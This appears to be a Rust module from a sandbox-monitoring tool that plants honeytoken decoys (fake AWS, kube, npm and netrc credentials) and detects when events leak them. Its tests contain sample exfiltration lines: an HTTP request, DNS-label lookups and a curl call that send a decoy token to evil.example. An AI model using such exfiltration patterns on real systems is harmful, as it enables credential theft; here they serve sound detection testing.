//! Decoys: files, variables and host names that have no use but to be found.

use std::{
    collections::BTreeSet,
    fmt,
    path::{Path, PathBuf},
};

use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use palisade_core::{Event, HostName};
use serde_json::Value;

/// How deep facts are looked into.
const DEPTH: usize = 8;

/// The decoys of one sandbox, made for it alone.
pub struct Decoys {
    files: Vec<(PathBuf, String)>,
    variables: Vec<(String, String)>,
    /// Texts that are nowhere else in the world, each with the decoy that holds it.
    tokens: Vec<(String, String)>,
    hosts: BTreeSet<HostName>,
    searcher: AhoCorasick,
    /// The decoys of the searcher's patterns.
    names: Vec<String>,
}

/// What decoys are to be made.
#[derive(Debug, Clone, Copy)]
pub struct Wanted<'a> {
    /// Files, by their absolute paths.
    pub files: &'a BTreeSet<PathBuf>,
    /// Variables.
    pub variables: &'a BTreeSet<String>,
    /// Names of hosts besides the one that is made up.
    pub hosts: &'a BTreeSet<HostName>,
}

/// Keys by which services are known, for others like them.
const AWS_ID: &str = "AKIAQ3EXAMPLE7YWJ2ZT";
const AWS_SECRET: &str = "wJa1rXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEYz9";
const GITHUB: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
const NPM: &str = "npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
const ANTHROPIC: &str = "sk-ant-api03-a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8s9T0u1V2w3X4y5Z6";
const PLAIN: &str = "a1B2c3D4e5F6g7H8i9J0k1L2";

/// Texts that look like one, but of other characters.
struct Draw<'a> {
    like: &'a mut dyn FnMut(&str) -> Option<String>,
    host: String,
    tokens: Vec<(String, String)>,
}

impl Draw<'_> {
    fn token(&mut self, decoy: &str, like: &str) -> Option<String> {
        let token = (self.like)(like)?;
        self.tokens.push((token.clone(), decoy.to_owned()));
        Some(token)
    }
}

impl Decoys {
    /// Make them. `like` gives a text of the same form as the one that it gets, of random characters; `None` if it
    /// cannot.
    pub fn make(wanted: Wanted<'_>, like: &mut dyn FnMut(&str) -> Option<String>) -> Option<Self> {
        let number = like("a1b2c3d4e5f6")?.to_ascii_lowercase();
        let host = format!("db-{number}.prod.internal");
        let mut draw = Draw { like, host: host.clone(), tokens: Vec::new() };
        let mut files = Vec::new();
        for path in wanted.files {
            files.push((path.clone(), content(path, &mut draw)?));
        }
        let mut variables = Vec::new();
        for name in wanted.variables {
            let decoy = format!("the variable {name}");
            variables.push((name.clone(), draw.token(&decoy, like_variable(name))?));
        }
        let mut hosts = wanted.hosts.clone();
        hosts.extend(host.parse::<HostName>().ok());
        let tokens = draw.tokens;
        let of_hosts = hosts.iter().map(|host| (host.to_string(), format!("the host {host}")));
        let (patterns, names): (Vec<_>, Vec<_>) = tokens.iter().cloned().chain(of_hosts).unzip();
        // Names that are asked for have no case.
        let searcher = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .kind(Some(AhoCorasickKind::ContiguousNFA))
            .match_kind(MatchKind::LeftmostLongest)
            .build(&patterns)
            .ok()?;
        Some(Self { files, variables, tokens, hosts, searcher, names })
    }

    /// Files with what they hold.
    pub fn files(&self) -> impl Iterator<Item = (&Path, &str)> {
        self.files.iter().map(|(path, text)| (path.as_path(), text.as_str()))
    }

    /// Variables with what they hold.
    pub fn variables(&self) -> impl Iterator<Item = (&str, &str)> {
        self.variables.iter().map(|(name, text)| (name.as_str(), text.as_str()))
    }

    /// The texts that are nowhere else, each with the name of its decoy.
    pub fn tokens(&self) -> impl Iterator<Item = (&str, &str)> {
        self.tokens.iter().map(|(token, decoy)| (token.as_str(), decoy.as_str()))
    }

    /// The hosts that nobody has a reason to look for.
    pub fn hosts(&self) -> &BTreeSet<HostName> {
        &self.hosts
    }

    /// The decoy, if any, that an event has in its subject or its facts.
    pub fn found_in(&self, event: &Event) -> Option<&str> {
        let found = self.found(&event.subject).or_else(|| {
            // A token that does not fit into one label is spread over several.
            let spread = event.kind == "resolve" && event.subject.contains('.');
            let joined = spread.then(|| event.subject.replace(['.', '-'], ""));
            joined.and_then(|joined| self.found(&joined))
        });
        found.or_else(|| event.detail.values().find_map(|value| self.in_value(value, DEPTH)))
    }

    fn in_value(&self, value: &Value, depth: usize) -> Option<&str> {
        let depth = depth.checked_sub(1)?;
        match value {
            Value::String(text) => self.found(text),
            Value::Array(items) => items.iter().find_map(|item| self.in_value(item, depth)),
            Value::Object(members) => {
                members.values().find_map(|member| self.in_value(member, depth))
            }
            Value::Null | Value::Bool(_) | Value::Number(_) => None,
        }
    }

    fn found(&self, text: &str) -> Option<&str> {
        let found = self.searcher.find(text)?;
        self.names.get(found.pattern().as_usize()).map(String::as_str)
    }
}

/// Says nothing of what decoys hold.
impl fmt::Debug for Decoys {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Decoys").field("names", &self.names).finish_non_exhaustive()
    }
}

/// A secret of the kind that a variable's name promises.
fn like_variable(name: &str) -> &'static str {
    let name = name.to_ascii_uppercase();
    let has = |part: &str| name.contains(part);
    match () {
        () if has("AWS") && has("ID") => AWS_ID,
        () if has("AWS") => AWS_SECRET,
        () if has("GITHUB") || name.starts_with("GH_") => GITHUB,
        () if has("NPM") => NPM,
        () if has("ANTHROPIC") => ANTHROPIC,
        () => PLAIN,
    }
}

/// What a file of this name holds.
fn content(path: &Path, draw: &mut Draw<'_>) -> Option<String> {
    let decoy = path.display().to_string();
    let name = path.file_name().unwrap_or_default().to_string_lossy().to_ascii_lowercase();
    let folder = path.parent().and_then(Path::file_name).unwrap_or_default();
    let mut token = |like: &str| draw.token(&decoy, like);
    Some(match (folder.to_string_lossy().as_ref(), name.as_str()) {
        (".aws", "credentials") => format!(
            "[default]\naws_access_key_id = {}\naws_secret_access_key = {}\n\n[prod-admin]\n\
             aws_access_key_id = {}\naws_secret_access_key = {}\n",
            token(AWS_ID)?,
            token(AWS_SECRET)?,
            token(AWS_ID)?,
            token(AWS_SECRET)?
        ),
        (".kube", "config") => {
            let token = token(PLAIN)?;
            format!(
                "apiVersion: v1\nkind: Config\nclusters:\n- name: prod\n  cluster:\n    server: https://{}:6443\n\
                 users:\n- name: admin\n  user:\n    token: {token}\ncontexts:\n- name: prod\n  context: \
                 {{cluster: prod, user: admin}}\ncurrent-context: prod\n",
                draw.host
            )
        }
        (_, ".npmrc") => format!("//registry.npmjs.org/:_authToken={}\n", token(NPM)?),
        (_, ".netrc") => {
            let token = token(PLAIN)?;
            format!("machine {}\n  login deploy\n  password {token}\n", draw.host)
        }
        (_, name) if name.ends_with(".json") => {
            let (id, key) = (token(PLAIN)?, token(AWS_SECRET)?);
            let host = &draw.host;
            format!(
                "{{\n  \"client_id\": \"{id}\",\n  \"client_secret\": \"{key}\",\n  \"host\": \"{host}\"\n}}\n"
            )
        }
        _ => {
            let (password, key, aws) = (token(PLAIN)?, token(GITHUB)?, token(AWS_SECRET)?);
            let host = &draw.host;
            format!(
                "DATABASE_URL=postgres://admin:{password}@{host}:5432/prod\nDEPLOY_TOKEN={key}\n\
                 BACKUP_SECRET_KEY={aws}\n"
            )
        }
    })
}

#[cfg(test)]
mod tests {
    use palisade_core::Layer;

    use super::*;

    /// Characters that turn with each call.
    fn turning() -> impl FnMut(&str) -> Option<String> {
        let mut calls = 0_u32;
        move |like| {
            calls += 1;
            let turn = |c: char| match c {
                'a'..='z' | 'A'..='Z' | '0'..='9' => {
                    let number = (u32::from(c) * 7 + calls * 11) % 10;
                    char::from_digit(number, 10).unwrap()
                }
                other => other,
            };
            Some(like.chars().map(turn).collect())
        }
    }

    fn decoys() -> Decoys {
        let files =
            ["/h/.aws/credentials", "/h/.kube/config", "/h/prod.env", "/h/.npmrc", "/h/key.json"];
        let files = files.map(PathBuf::from).into();
        let variables = ["PROD_TOKEN".to_owned()].into();
        let hosts = ["vault.corp".parse().unwrap()].into();
        let wanted = Wanted { files: &files, variables: &variables, hosts: &hosts };
        Decoys::make(wanted, &mut turning()).unwrap()
    }

    #[test]
    fn each_token_stands_in_its_decoy_and_no_two_are_the_same() {
        let decoys = decoys();
        let mut seen = BTreeSet::new();
        for (token, decoy) in decoys.tokens() {
            assert!(seen.insert(token), "{token} twice");
            let in_file = decoys
                .files()
                .any(|(path, text)| path.display().to_string() == decoy && text.contains(token));
            let in_variable = decoys.variables().any(|(_, text)| text == token);
            assert!(in_file || in_variable, "{decoy}");
        }
        assert_eq!(decoys.hosts().len(), 2);
        assert!(!format!("{decoys:?}").contains(seen.first().unwrap()));
    }

    #[test]
    fn a_decoy_is_found_in_what_events_say_and_nothing_else_is() {
        let decoys = decoys();
        let (token, name) = decoys.tokens().next().unwrap();
        let event = |kind: &str, subject: String| Event::observed(kind, Layer::Network, subject);
        let lower = token.to_ascii_lowercase();
        let (one, two) = lower.split_at(9);
        for found in [
            event("request", format!("GET evil.example/?k={token}")),
            event("resolve", format!("{lower}.evil.example")),
            event("resolve", format!("{one}.{two}.evil.example")),
            event("exec", "curl".into()).with("argv", vec!["-d", token]),
            event("x", "x".into()).with("deep", serde_json::json!({"a": [{"b": token}]})),
        ] {
            assert_eq!(decoys.found_in(&found), Some(name), "{found:?}");
        }
        assert_eq!(
            decoys.found_in(&event("resolve", "VAULT.corp".into())),
            Some("the host vault.corp")
        );
        for other in ["evil.example", "GET api.example/users", ""] {
            assert_eq!(decoys.found_in(&event("request", other.into())), None);
        }
    }

    #[test]
    fn without_random_numbers_there_are_none() {
        let (files, none, hosts) =
            ([PathBuf::from("/h/x")].into(), BTreeSet::new(), BTreeSet::new());
        let wanted = Wanted { files: &files, variables: &none, hosts: &hosts };
        assert!(Decoys::make(wanted, &mut |_| None).is_none());
    }
}
